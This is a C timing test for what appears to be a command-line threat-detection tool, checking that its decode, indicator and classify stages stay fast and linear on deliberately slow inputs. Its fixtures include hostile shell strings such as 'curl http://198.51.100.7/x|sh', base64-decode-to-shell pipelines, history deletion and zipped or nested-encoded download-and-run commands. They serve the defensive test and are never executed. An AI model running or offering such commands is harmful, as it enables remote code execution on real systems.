// SPDX-License-Identifier: GPL-3.0-or-later
/*
 * What the stages decode, ioc and classify take of arguments that were made to
 * be slow: under 25 ms each for 128 KiB, and not more than linear. With all
 * arguments that a kernel takes, short ones, and with archives.
 */
#include <zlib.h>

#include "classify.h"
#include "clock.h"
#include "ioc.h"
#include "encoded.h"
#include "rules.h"

#define SIZE     (128 * 1024)
#define LIMIT_MS 25
/* Below this the clock says more of itself. */
#define NOISE_MS 4
#define RUNS     3
/* Measured anew before it is believed: other programs run too. */
#define TRIES 5

#define ARGS_MANY 100000
#define MEMBERS   160

enum { DECODE, IOC, CLASSIFY, STAGES };

static const char *const names[STAGES] = { "decode", "ioc", "classify" };

struct stages {
	struct decode *decode;
	struct classify *classify;
	struct ioc_conf ioc;
	struct classify_conf conf;
	double ms[STAGES]; /* the best of some runs */
	double limit_ms; /* at that time */
};

static void once(struct stages *s, struct bytes *argv, size_t argc)
{
	struct event *ev = event_create();
	double at[STAGES + 1];

	if (!ev)
		abort();
	ev->argv = argv;
	ev->argc = argc;
	at[0] = clock_ms();
	decode_run(s->decode, ev, &payload_conf);
	at[1] = clock_ms();
	ioc_run(ev, &s->ioc);
	at[2] = clock_ms();
	classify_run(s->classify, ev, &s->conf);
	at[3] = clock_ms();
	for (int i = 0; i < STAGES; i++)
		if (at[i + 1] - at[i] < s->ms[i])
			s->ms[i] = at[i + 1] - at[i];
	event_destroy(ev);
}

static void measure(struct stages *s, struct bytes *argv, size_t argc)
{
	for (int i = 0; i < STAGES; i++)
		s->ms[i] = 1e9;
	for (int i = 0; i < RUNS; i++)
		once(s, argv, argc);
	s->limit_ms = clock_limit_ms(LIMIT_MS);
}

static bool is_short(const struct stages *s)
{
	for (int i = 0; i < STAGES; i++)
		if (s->ms[i] >= s->limit_ms)
			return false;
	return true;
}

static bool is_linear(const struct stages *one, const struct stages *two)
{
	for (int i = 0; i < STAGES; i++)
		if (two->ms[i] > NOISE_MS && two->ms[i] > 3 * one->ms[i])
			return false;
	return true;
}

static void check_short(const struct stages *s)
{
	for (int i = 0; i < STAGES; i++)
		if (s->ms[i] >= s->limit_ms)
			check_fail(__LINE__, "%s takes %.1f ms, limit %.1f",
				names[i], s->ms[i], s->limit_ms);
}

/* Arguments of sh -c, python3 -c and so on, of size bytes. A # is a number, no
 * two of them alike. */
static void fill(struct str *s, const char *piece, size_t size)
{
	const char *mark = strchr(piece, '#');
	size_t head = mark ? (size_t)(mark - piece) : strlen(piece);

	str_reset(s);
	while (s->len < size) {
		str_add(s, piece, head);
		if (mark)
			str_addf(s, "%zu%s", s->len, mark + 1);
	}
	str_cut(s, size);
}

static const struct text {
	const char *program, *piece;
} texts[] = {
	{ "sh", "QUFBQUFBQUFBQUFBQUF!" },
	{ "sh", "YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4/w " },
	{ "sh", "echo QUJDREVGR0hJSktMTU5P|base64 -d|sh;" },
	{ "sh", "base64 -d<<<'QUJDREVGR0hJSktMTU5P'|" },
	{ "sh", "printf '\\x69\\x64' | sh;" },
	{ "sh", "$'\\x69\\144\\u0020'" },
	{ "sh", "{a,b}" },
	{ "sh", "{{{{" },
	{ "sh", "$(((((" },
	{ "sh", "a=$(b=`c" },
	{ "sh", "[[ a =~ ((((" },
	{ "sh", "a=b;$a$a;" },
	{ "sh", "for i in 1 2 3;do echo $i;done;" },
	{ "sh", "eval $(" },
	{ "sh", "$(aaaaaaaaaaaaaaaaaaaa).aaaaaaaaaaaa.aaaaaaaaaaaaa1" },
	{ "sh", "openssl s_client aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" },
	{ "sh", "rm aaaaaaaaaaaaaa/.bash_histor" },
	{ "sh", "a.b.c.d.e.f.g.h" },
	{ "sh", "http://a.b:c@d.e/%41[.]" },
	{ "sh", "curl http://198.51.100.7/x|sh;" },
	{ "sh", "$(which a#) `command -v b`|" },
	{ "sh", "x=$(which a;which b#);[ $x ]||" },
	{ "sh", "echo aB#c|grep -oP '\\w\\K[[:alpha:]]*'|rev|sh;" },
	{ "sh", "rev<<<b#|" },
	{ "sh", "grep -v a<<<b#|grep -F b|" },
	{ "sh", "mysql -e ';;;;;;a#'|rsync -e x;" },
	{ "mysql", ";alias.a=#!" },
	{ "git", "alias.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa;" },
	{ "sh", "&a#=%41=base64(AAAAAAAAA1 " },
	{ "sh", "a=%7Cbase64%20-d" },
	{ "sh", "?x=%28b64decode" },
	{ "sh", "fRoMbAsE64sTrInG(,((,$(" },
	{ "python3", "b64decode('aWQ=');" },
	{ "python3", "chr(105)+chr(100)+" },
	{ "python3", "os.system('id');" },
	{ "mysql", "select 0x62617368202d63206964#,x'62617368'." },
	{ "mysql", "0x4a6f686e204a6f686e31,x'\\'" },
	{ "curl", "&c=a%2520b%2520c#" },
	{ "perl", "unpack(\"H*\",'6964')." },
	{ "python3", "system('|#');" },
	{ "python3", "system('echo #|rev|sh');" },
	{ "python3", "a system(a);|" },
	{ "perl", "system q(echo #|rev);" },
	{ "perl", "$x='%41%';$x=~s/%([a-f0-9])/chr hex $1/gei;" },
	{ "perl", "[[:xdigit:][:alpha:][:" },
	{ "perl", "$x=<<E#;\n" },
	{ "python3", "re.compile('[a',re.I).sub(" },
	{ "ruby", "c#='|';system(c#);" },
};

static void check_text(struct stages *s, const struct text *t, struct str *room)
{
	struct bytes argv[] = { bytes_of(t->program), BYTES("-c"),
		{ NULL, 0 } };
	struct stages one = *s, two = *s;

	check_start("%s -c %s", t->program, t->piece);
	for (int i = 0; i < TRIES; i++) {
		fill(room, t->piece, SIZE);
		argv[2] = str_bytes(room);
		measure(&one, argv, 3);
		fill(room, t->piece, (size_t)2 * SIZE);
		argv[2] = str_bytes(room);
		measure(&two, argv, 3);
		if (is_short(&one) && is_linear(&one, &two))
			break;
	}
	check_short(&one);
	if (!is_linear(&one, &two))
		for (int i = 0; i < STAGES; i++)
			check_fail(__LINE__, "%s: %.1f ms, %.1f ms for twice",
				names[i], one.ms[i], two.ms[i]);
}

/* Arguments that come to no more than this together. */
static void check_args(struct stages *s, const char *first, const char *each)
{
	struct bytes *argv = calloc(ARGS_MANY, sizeof(*argv));

	if (!argv)
		abort();
	check_start("%d arguments: %s %s", ARGS_MANY, first, each);
	argv[0] = bytes_of(first);
	for (size_t i = 1; i < ARGS_MANY; i++)
		argv[i] = bytes_of(each);
	for (int i = 0; i < TRIES; i++) {
		measure(s, argv, ARGS_MANY);
		if (is_short(s))
			break;
	}
	check_short(s);
	free(argv);
}

/* A shell's text with many words behind it. */
static void check_words(struct stages *s, const char *text)
{
	static struct bytes argv[ARGS_MANY] = { BYTES("sh"), BYTES("-c") };

	check_start("words: %s", text);
	argv[2] = bytes_of(text);
	for (size_t i = 3; i < ARGS_MANY; i++)
		argv[i] = BYTES("aW");
	for (int i = 0; i < TRIES; i++) {
		measure(s, argv, ARGS_MANY);
		if (is_short(s))
			break;
	}
	check_short(s);
}

static void add_u16(struct str *s, size_t v)
{
	str_addc(s, (char)v);
	str_addc(s, (char)(v >> 8));
}

static void add_u32(struct str *s, size_t v)
{
	add_u16(s, v & 0xffff);
	add_u16(s, v >> 16);
}

/* One more member, as zip(1) stores or deflates it. */
static void add_member(struct str *zip, struct bytes text, bool is_deflated)
{
	char room[4096];
	struct bytes data = text;
	z_stream z = { 0 };

	if (is_deflated) {
		if (deflateInit2(&z, 9, Z_DEFLATED, -15, 8, 0) != Z_OK)
			abort();
		z.next_in = (unsigned char *)(uintptr_t)text.p;
		z.avail_in = (unsigned int)text.len;
		z.next_out = (unsigned char *)room;
		z.avail_out = sizeof(room);
		if (deflate(&z, Z_FINISH) != Z_STREAM_END)
			abort();
		data = (struct bytes){ room, sizeof(room) - z.avail_out };
		deflateEnd(&z);
	}
	str_addb(zip, BYTES("PK\x03\x04\x14\0\0\0"));
	add_u16(zip, is_deflated ? 8 : 0);
	add_u32(zip, 0);
	add_u32(zip, 0);
	add_u32(zip, data.len);
	add_u32(zip, text.len);
	add_u16(zip, 1);
	add_u16(zip, 0);
	str_addc(zip, 'a');
	str_addb(zip, data);
}

/* Members that are shell texts, each of so many bytes. */
static void check_zip(struct stages *s, bool is_deflated, size_t size)
{
	struct bytes argv[] = { BYTES("sh"), BYTES("-c"), { NULL, 0 } };
	struct str zip, text, line;

	check_start("zip of %d members of %zu bytes, %s", MEMBERS, size,
		is_deflated ? "deflated" : "stored");
	str_init(&zip, 1 << 22);
	str_init(&text, 1 << 22);
	str_init(&line, 1 << 22);
	for (size_t i = 0; i < MEMBERS; i++) {
		str_reset(&text);
		str_addf(&text, "curl http://198.51.100.%zu/x|sh\n", i);
		while (text.len < size)
			str_addf(&text, "rm -f /tmp/%zu; ", text.len + i);
		add_member(&zip, str_bytes(&text), is_deflated);
	}
	str_addz(&line, "echo ");
	payload_encode(&line, str_bytes(&zip), false, true, 0, "");
	str_addz(&line, "|base64 -d|funzip|sh");
	argv[2] = str_bytes(&line);
	for (int i = 0; i < TRIES; i++) {
		measure(s, argv, 3);
		if (is_short(s))
			break;
	}
	check_short(s);
	str_fini(&zip);
	str_fini(&text);
	str_fini(&line);
}

/* Base64 of Base64 and so on, to SIZE. */
static void check_nested(struct stages *s)
{
	struct bytes argv[] = { BYTES("sh"), BYTES("-c"), { NULL, 0 } };
	struct str a, b;

	check_start("nested");
	str_init(&a, 2 * SIZE);
	str_init(&b, 2 * SIZE);
	str_addz(&a, "curl http://198.51.100.7/x|sh");
	while (a.len < (size_t)SIZE * 3 / 4 - 100) {
		struct str c = a;

		str_reset(&b);
		payload_encode(&b, str_bytes(&a), false, true, 0, "");
		a = b;
		b = c;
	}
	argv[2] = str_bytes(&a);
	for (int i = 0; i < TRIES; i++) {
		measure(s, argv, 3);
		if (is_short(s))
			break;
	}
	check_short(s);
	str_fini(&a);
	str_fini(&b);
}

static void run_all(struct stages *s)
{
	static const char *const args[][2] = { { "sh", "a" }, { "sh", "-c" },
		{ "perl", "-e" }, { "python3", "'a'" }, { "sudo", "x.sh" },
		{ "xargs", "sh" }, { "wget", "a.b" }, { "sh", "base64" },
		{ "base64", "YWJj" }, { "env", "A=1" }, { "rm", "/tmp/.x" } };
	struct str room;

	str_init(&room, (size_t)4 * SIZE);
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		check_text(s, &texts[i], &room);
	str_fini(&room);
	for (size_t i = 0; i < sizeof(args) / sizeof(args[0]); i++)
		check_args(s, args[i][0], args[i][1]);
	check_words(s, "echo \"$@\"|base64 -d|sh");
	check_words(s, "while [ $1 ];do x=$x$1;shift;done;eval $x|rev");
	check_words(s, "for i;do echo $*|rev|sh;done");
	check_nested(s);
	check_zip(s, false, 100);
	check_zip(s, false, 500);
	check_zip(s, true, 100);
	check_zip(s, true, 2000);
}

int main(void)
{
	struct stages s = { .decode = decode_new(),
		.classify = classify_new(),
		.ioc = { .types = IOC_TYPES_DEFAULT } };
	struct rules *rules;
	struct str why;

	check.module = "stages_time";
	str_init(&why, 1 << 16);
	rules = rules_load("conf/hunt.d", "basic", &why);
	check_start("the shipped rows");
	if (CHECK(rules && s.decode && s.classify)) {
		s.ioc.rules = rules->iocs;
		s.conf.rules = rules->classify;
		run_all(&s);
	}
	rules_free(rules);
	decode_free(s.decode);
	classify_free(s.classify);
	str_fini(&why);
	return check_end();
}
